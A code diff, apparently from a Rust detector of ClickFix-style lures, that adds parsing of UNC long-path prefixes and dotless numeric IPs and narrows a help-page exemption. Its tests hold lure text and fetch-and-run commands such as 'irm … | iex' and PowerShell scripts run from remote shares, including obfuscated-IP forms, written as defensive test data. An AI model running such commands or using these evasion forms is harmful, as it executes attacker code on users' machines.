@@ -291,9 +291,25 @@ fn unc_reaches_out(flat: &str) -> bool {
         ".home.arpa",
     ];
     flat.match_indices("\\\\").any(|(i, _)| {
-        let host = flat[i + 2..].split(['\\', '/', ' ']).next().unwrap_or("");
+        let mut rest = &flat[i + 2..];
+        // `\\?\UNC\host\…` and `\\.\UNC\host\…` are the same share as `\\host\…`.
+        for prefix in ["?\\unc\\", ".\\unc\\"] {
+            if rest
+                .get(..prefix.len())
+                .is_some_and(|p| p.eq_ignore_ascii_case(prefix))
+            {
+                rest = &rest[prefix.len()..];
+            }
+        }
+        let host = rest.split(['\\', '/', ' ']).next().unwrap_or("");
+        // An IP may be written as one number (`\\3405803785`, `\\0xcb007109`): no dot.
+        let hex = host.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("0x"))
+            && host.len() > 2
+            && host[2..].bytes().all(|b| b.is_ascii_hexdigit());
         host.is_empty()
             || host.contains('@')
+            || hex
+            || host.bytes().all(|b| b.is_ascii_digit())
             || host.contains('.') && !INTRANET.iter().any(|s| host.ends_with(s))
     })
 }
@@ -993,10 +1009,15 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
     let docs = command.install_like(&page.site) && page.documents_install(&command);
     // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
     // it, press Win+X …"), but shows the very command it copies and fetches nothing, or only
-    // from its own site; a lure hides its command or fetches from elsewhere.
+    // from its own site; a lure hides its command or fetches from elsewhere. A kit on its own
+    // domain shows and fetches from there too: a download run from the page's site is help only
+    // with documentation around it, or a problem asked about, not an error claimed ("Error:
+    // this document could not be displayed").
+    let own_fetch = command.fetches_from_site(&page.site)
+        && (page.weight(Cat::InstallDocs) >= 1.0 || page.story().all(|h| h.cat != Cat::Error));
     let help = command.install_like(&page.site)
         && page.shows(&command)
-        && (!command.remote || command.fetches_from_site(&page.site))
+        && (!command.remote || own_fetch)
         && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
         && page
             .story()
@@ -1251,6 +1272,19 @@ mod tests {
     }
 
     #[test]
+    fn kits_on_their_own_domain_are_not_help_pages() {
+        // A kit serving its script from its own domain and showing it is not a help page: a
+        // command that downloads and runs code needs documentation around it to be exempt.
+        let kit = "https://word-fix-online.example/view";
+        let fetch = "irm https://word-fix-online.example/fix.ps1 | iex";
+        let text = format!(
+            "Error: this document could not be displayed. To fix it, press Win+X, choose \
+             Windows PowerShell (Admin), paste the command and press Enter.\n{fetch}\nCopy"
+        );
+        assert!(assess(fetch, &PageHits::new([text.as_str()]).on(kit)).is_some());
+    }
+
+    #[test]
     fn help_pages_show_what_they_copy() {
         let on = |clip: &str, text: &str, url: &str| {
             assess(clip, &PageHits::new([text]).on(url)).is_some()
@@ -1288,6 +1322,7 @@ mod tests {
             "cmd /c \\\\dc01\\netlogon\\logon.bat",
             "powershell -ExecutionPolicy Bypass -File \\\\fileserver\\it$\\map-printers.ps1",
             "powershell -File \\\\nas01.corp.local\\scripts\\vpn.ps1",
+            "cmd /c \\\\?\\UNC\\dc01\\netlogon\\logon.bat",
         ] {
             assert!(
                 !judged(clip, &format!("Printers missing? {run}\n{clip}")),
@@ -1299,6 +1334,12 @@ mod tests {
             "cmd /c \\\\files.example\\pub\\update.bat",
             "powershell -File \\\\203.0.113.9\\share\\fix.ps1",
             "powershell -File \\\\dav@SSL\\DavWWWRoot\\fix.ps1",
+            // Long-path and device prefixes name the host after `UNC\`.
+            "powershell -File \\\\?\\UNC\\files.example\\pub\\fix.ps1",
+            "powershell -File \\\\.\\UNC\\files.example\\pub\\fix.ps1",
+            // An IP written as one decimal or hex number has no dot.
+            "powershell -File \\\\3405803785\\share\\fix.ps1",
+            "powershell -File \\\\0xCB007109\\share\\fix.ps1",
         ] {
             assert!(
                 judged(clip, &format!("Printers missing? {run}\n{clip}")),
